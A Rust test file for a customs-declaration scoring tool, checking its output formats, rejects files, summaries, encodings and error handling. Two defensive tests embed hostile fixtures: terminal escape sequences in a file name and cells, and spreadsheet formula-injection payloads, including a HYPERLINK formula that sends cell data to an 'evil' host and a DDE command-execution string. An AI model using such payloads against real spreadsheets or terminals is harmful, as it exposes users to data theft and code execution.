//! `qingfeng score`.

use crate::support::{DECLARATIONS, Desk, golden, is_harmful};

#[test]
fn the_summary_for_people() {
    let desk = Desk::new();
    let ran = desk.run("score declarations.csv --rules harbour --threads 1 -o out.csv").exits(0);
    golden("score-summary.txt", &ran.stderr);
    assert_eq!(ran.stdout, "", "what goes to a file does not go to standard output");
}

#[test]
fn a_quiet_run_has_a_short_summary() {
    let desk = Desk::new();
    desk.write(
        "one.ndjson",
        r#"{"declaration_id": "D2", "destination": "DE", "mode": "0110", "hs": "610910"}"#,
    );
    let ran = desk.run("score one.ndjson --rules harbour --threads 1").exits(0);
    golden("score-summary-quiet.txt", &ran.stderr);
    assert_eq!(ran.stdout.lines().count(), 1);
}

#[test]
fn rows_stand_for_declarations_or_lines() {
    let desk = Desk::new();
    for (by, header, rows) in [
        ("declaration", "declaration_id,score,channel,decisive_item", 6),
        ("item", "declaration_id,item_no,score,channel", 8),
    ] {
        let header = format!(
            "{header},rules,shadow_rules,faults,unreadable,undecided,score_least,score_most,channel_least,channel_most,pack"
        );
        desk.run(&format!("score declarations.csv --rules harbour --by {by} -o out.csv")).exits(0);
        let out = desk.read("out.csv");
        assert_eq!(out.lines().next(), Some(header.as_str()));
        assert_eq!(out.lines().count(), rows + 1, "{out}");
    }
}

#[test]
fn reasons_are_written_when_asked_for() {
    let desk = Desk::new();
    let ran = desk.run("score declarations.csv --rules harbour --reasons").exits(0);
    let first: serde_json::Value = serde_json::from_str(ran.stdout.lines().next().unwrap()).unwrap();
    assert_eq!(first["declaration_id"], "D1");
    assert_eq!(first["rules"], serde_json::json!(["PRICE"]));
    let reason = first["reasons"][0].as_str().unwrap();
    assert!(reason.contains("unit value 200"), "{reason}");
    assert_eq!(first["faults"], serde_json::json!(["PARITY: division by zero"]));
    assert_eq!(first["channel"], "yellow", "a fault lifts the line");
}

#[test]
fn every_format_is_written_by_its_extension() {
    let desk = Desk::new();
    for (extension, magic) in [
        ("csv", &b"declaration_id,"[..]),
        ("csv.gz", b"\x1f\x8b"),
        ("csv.zst", b"\x28\xb5\x2f\xfd"),
        ("ndjson", b"{\"declaration_id\""),
        ("jsonl", b"{\"declaration_id\""),
        ("ndjson.gz", b"\x1f\x8b"),
        ("ndjson.zst", b"\x28\xb5\x2f\xfd"),
        ("parquet", b"PAR1"),
        ("arrow", b"ARROW1"),
    ] {
        let args =
            format!("score declarations.csv --rules harbour -o out.{extension} --rejects bad.{extension}");
        desk.run(&args).exits(0);
        assert!(desk.bytes(&format!("out.{extension}")).starts_with(magic), "{extension}");
        assert!(desk.bytes(&format!("bad.{extension}")).len() > magic.len(), "{extension}");
    }
}

#[test]
fn the_output_does_not_depend_on_threads() {
    let desk = Desk::new();
    desk.run("generate --lines 20000 -o made.csv").exits(0);
    let one = desk.run("score made.csv --rules harbour --reasons --threads 1 --summary one.json").exits(0);
    let four = desk.run("score made.csv --rules harbour --reasons --threads 4 --summary four.json").exits(0);
    assert!(one.stdout == four.stdout);
    let counts = |file: &str| {
        let mut summary: serde_json::Value = serde_json::from_str(&desk.read(file)).unwrap();
        for varying in ["threads", "seconds", "load_seconds"] {
            assert!(summary.as_object_mut().unwrap().remove(varying).is_some(), "{varying}");
        }
        summary
    };
    assert_eq!(counts("one.json"), counts("four.json"));
}

#[test]
fn rejects_go_to_a_file() {
    let desk = Desk::new();
    let ran = desk.run("score declarations.csv --rules harbour -o out.csv --rejects bad.csv").exits(0);
    let bad = desk.read("bad.csv");
    let mut lines = bad.lines();
    assert_eq!(lines.next(), Some("input,position,declaration_id,field,value,reason"));
    let row = lines.next().unwrap();
    assert!(row.starts_with("declarations.csv,line 6,D4,quantity,many,"), "{row}");
    assert_eq!(lines.next(), None);
    assert!(!ran.stderr.contains("--rejects"), "no hint is needed");
}

#[test]
fn a_file_of_rejects_is_written_even_without_any() {
    let desk = Desk::new();
    desk.write("good.csv", "declaration_id,destination,mode,hs\nD2,DE,0110,610910\n");
    desk.run("score good.csv --rules harbour -o out.csv --rejects bad.csv").exits(0);
    assert_eq!(desk.read("bad.csv"), "input,position,declaration_id,field,value,reason\n");
}

#[test]
fn more_rejects_than_are_shown() {
    let desk = Desk::new();
    let bad: String = (0..9).map(|n| format!("D{n},DE,0110,\n")).collect();
    desk.write("bad.csv", format!("declaration_id,destination,mode,hs\n{bad}"));
    // No line could be read whole.
    let ran = desk.run("score bad.csv --rules harbour --threads 1 -o out.csv").exits(1);
    golden("score-summary-rejects.txt", &ran.stderr);
}

#[test]
fn the_summary_is_also_data() {
    let desk = Desk::new();
    desk.run("score declarations.csv --rules harbour -o out.csv --summary summary.json").exits(0);
    let summary: serde_json::Value = serde_json::from_str(&desk.read("summary.json")).unwrap();
    assert_eq!(summary["lines_read"], 8);
    assert_eq!(summary["lines_assessed"], 8);
    assert_eq!(summary["lines_rejected"], 0);
    assert_eq!(summary["lines_unreadable"], 1);
    assert_eq!(summary["unreadable"]["quantity"]["kinds"]["value"], 1);
    assert_eq!(summary["scattered_declarations"], 1);
    assert_eq!(summary["faults_total"], 1);
    assert_eq!(summary["rules"]["PRICE"]["fired"], 2);
    assert_eq!(summary["unknown_codes"]["destination"]["codes"]["QQ"], 1);
    let channels: Vec<&String> = summary["channels"].as_object().unwrap().keys().collect();
    assert_eq!(channels.len(), 4);
}

#[test]
fn strict_runs_end_with_one_on_rejects_or_scattered_declarations() {
    let desk = Desk::new();
    let header = "declaration_id,destination,mode,hs\n";
    desk.write("good.csv", format!("{header}D1,DE,0110,610910\nD2,DE,0110,610910\n"));
    desk.write("reject.csv", format!("{header}D1,DE,0110,\nD2,DE,0110,610910\n"));
    desk.write("scattered.csv", format!("{header}D1,DE,0110,610910\nD2,DE,0110,610910\nD1,DE,0110,610910\n"));
    for (file, code) in [("good", 0), ("reject", 1), ("scattered", 1)] {
        desk.run(&format!("score {file}.csv --rules harbour --strict -o out.csv")).exits(code);
        assert!(desk.has("out.csv"), "a strict run writes its output all the same");
        desk.run(&format!("score {file}.csv --rules harbour -o out.csv")).exits(0);
    }
}

#[test]
fn standard_input_and_several_inputs() {
    let desk = Desk::new();
    let from_file = desk.run("score declarations.csv --rules harbour").exits(0).stdout;
    let from_input = desk.run_with("score - --rules harbour", DECLARATIONS).exits(0).stdout;
    assert_eq!(from_file, from_input);
    let told = desk.run_with("score - --rules harbour --input-format csv -o -", DECLARATIONS).exits(0).stdout;
    assert_eq!(from_file, told);
    desk.write(
        "more.ndjson",
        r#"{"declaration_id": "D9", "destination": "DE", "mode": "0110", "hs": "610910"}"#,
    );
    let both = desk.run("score declarations.csv more.ndjson --rules harbour").exits(0).stdout;
    assert_eq!(both.lines().count(), from_file.lines().count() + 1);
}

#[test]
fn chinese_files_in_their_encoding() {
    let desk = Desk::new();
    // 报关单号,运抵国,监管方式,商品编号 in GB 18030.
    let mut bytes = b"\xb1\xa8\xb9\xd8\xb5\xa5\xba\xc5,\xd4\xcb\xb5\xd6\xb9\xfa,\xbc\xe0\xb9\xdc\xb7\xbd\xca\xbd,\xc9\xcc\xc6\xb7\xb1\xe0\xba\xc5\n".to_vec();
    bytes.extend(b"D7,DE,0110,610910\n");
    desk.write("chinese.csv", bytes);
    let ran = desk.run("score chinese.csv --rules harbour --encoding gb18030").exits(0);
    assert!(ran.stdout.contains("\"D7\""));
    desk.run("score chinese.csv --rules harbour").exits(3);
}

#[test]
fn an_input_that_breaks_off_leaves_what_was_scored() {
    let desk = Desk::new();
    desk.run("generate --lines 60000 -o made.csv.gz").exits(0);
    let mut bytes = desk.bytes("made.csv.gz");
    bytes.truncate(bytes.len() / 2);
    desk.write("cut.csv.gz", bytes);
    let ran = desk.run("score cut.csv.gz --rules harbour -o out.csv").exits(3);
    assert!(ran.stderr.contains("out.csv.partial"), "{}", ran.stderr);
    assert!(desk.has("out.csv.partial") && !desk.has("out.csv"));
}

#[test]
fn what_files_hold_cannot_reach_a_terminal() {
    let desk = Desk::new();
    desk.write(
        "hostile\u{9b}2J.csv",
        "declaration_id,destination,mode,hs,quantity,Col\u{1b}[2J\nD\u{1b}[31m1,DE,0110,610910,\u{9b}2J\u{202e},\n\
         D2,\u{9b}2J,\u{202e},610910,1,\n",
    );
    let ran = desk.run("score hostile\u{9b}2J.csv --rules harbour -o out.csv").exits(1);
    assert!(!is_harmful(&ran.stderr), "{:?}", ran.stderr);
}

#[test]
fn nothing_that_declarants_write_runs_in_a_spreadsheet() {
    let desk = Desk::new();
    desk.write(
        "d.csv",
        "declaration_id,item_no,hs,destination,mode,exporter,quantity\n\"=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",1,8711,\
         KE,0110,=CMD|' /C calc'!A0,1\n@D2,1,8711,KE,0110,E1,=1+1\n",
    );
    desk.run("score d.csv --rules harbour -o out.csv --rejects rejects.csv").exits(1);
    let (out, rejects) = (desk.read("out.csv"), desk.read("rejects.csv"));
    assert!(out.contains("\n\"'=HYPERLINK(\"\"http") && out.contains("\n'@D2,"), "{out}");
    assert!(rejects.contains(",'@D2,quantity,'=1+1,"), "{rejects}");
    // What is read back is what was declared.
    let id = desk.run("explain @D2 d.csv --rules harbour --format json").exits(0).json();
    assert_eq!(id["declaration_id"], "@D2");
}

#[test]
fn numbers_are_written_as_people_write_them() {
    let desk = Desk::new();
    desk.write("harbour/more.rhai", "rule(\"SUM\", #{ title: \"Sum\", score: 1, when: |d| d.value > 0, reason: |d| `${d.declaration_value} USD` });");
    desk.write(
        "d.csv",
        "declaration_id,item_no,hs,destination,mode,quantity,value\nD1,1,610910,DE,0110,3,38061.92\nD1,2,610910,DE,0110,3,0.01\n\
         D2,1,610910,DE,0110,1,0.1\nD2,2,610910,DE,0110,1,0.2\n",
    );
    let out = desk.run("score d.csv --rules harbour --reasons").exits(0).stdout;
    assert!(out.contains("38061.93 USD") && out.contains(": 0.3 USD") && !out.contains("00000"), "{out}");
    let told = desk.run("explain D2 d.csv --rules harbour --all").exits(0).stdout;
    assert!(told.contains("0.3 USD") && !told.contains("00000"), "{told}");
}

#[test]
fn the_command_line_names_the_zone_of_days_and_the_list_of_countries_numbers() {
    let desk = Desk::new();
    desk.write(
        "d.csv",
        "declaration_id,declared_on,destination,mode,hs\nD1,2016-09-05T16:00:00Z,116,0110,8711209000\n",
    );
    let unread = desk.run("score d.csv --rules harbour --summary s.json -o out.csv").exits(1);
    assert!(unread.stderr.contains("--zone +08:00"), "{}", unread.stderr);
    assert!(unread.stderr.contains("--country-numbers"), "{}", unread.stderr);
    let summary: serde_json::Value = serde_json::from_str(&desk.read("s.json")).unwrap();
    assert_eq!(summary["unreadable"]["destination"]["lines"], 1);
    for zone in ["+08:00", "-03:00", "Asia/Shanghai"] {
        let args = format!(
            "score d.csv --rules harbour --zone {zone} --country-numbers gac --summary s.json -o out.csv"
        );
        let ran = desk.run(&args).exits(0);
        assert!(ran.stderr.contains("Read otherwise than written"), "{}", ran.stderr);
        let summary: serde_json::Value = serde_json::from_str(&desk.read("s.json")).unwrap();
        assert_eq!(summary["changed"]["destination"]["number_gac"]["example"], "`116` is read as `JP`");
        assert_eq!(summary["changed"]["declared_on"]["moment"]["cells"], 1);
    }
    let wrong = desk.run("score d.csv --rules harbour --zone Europe/Berlin").exits(2);
    assert!(wrong.stderr.contains("no zone without summer time"), "{}", wrong.stderr);
}
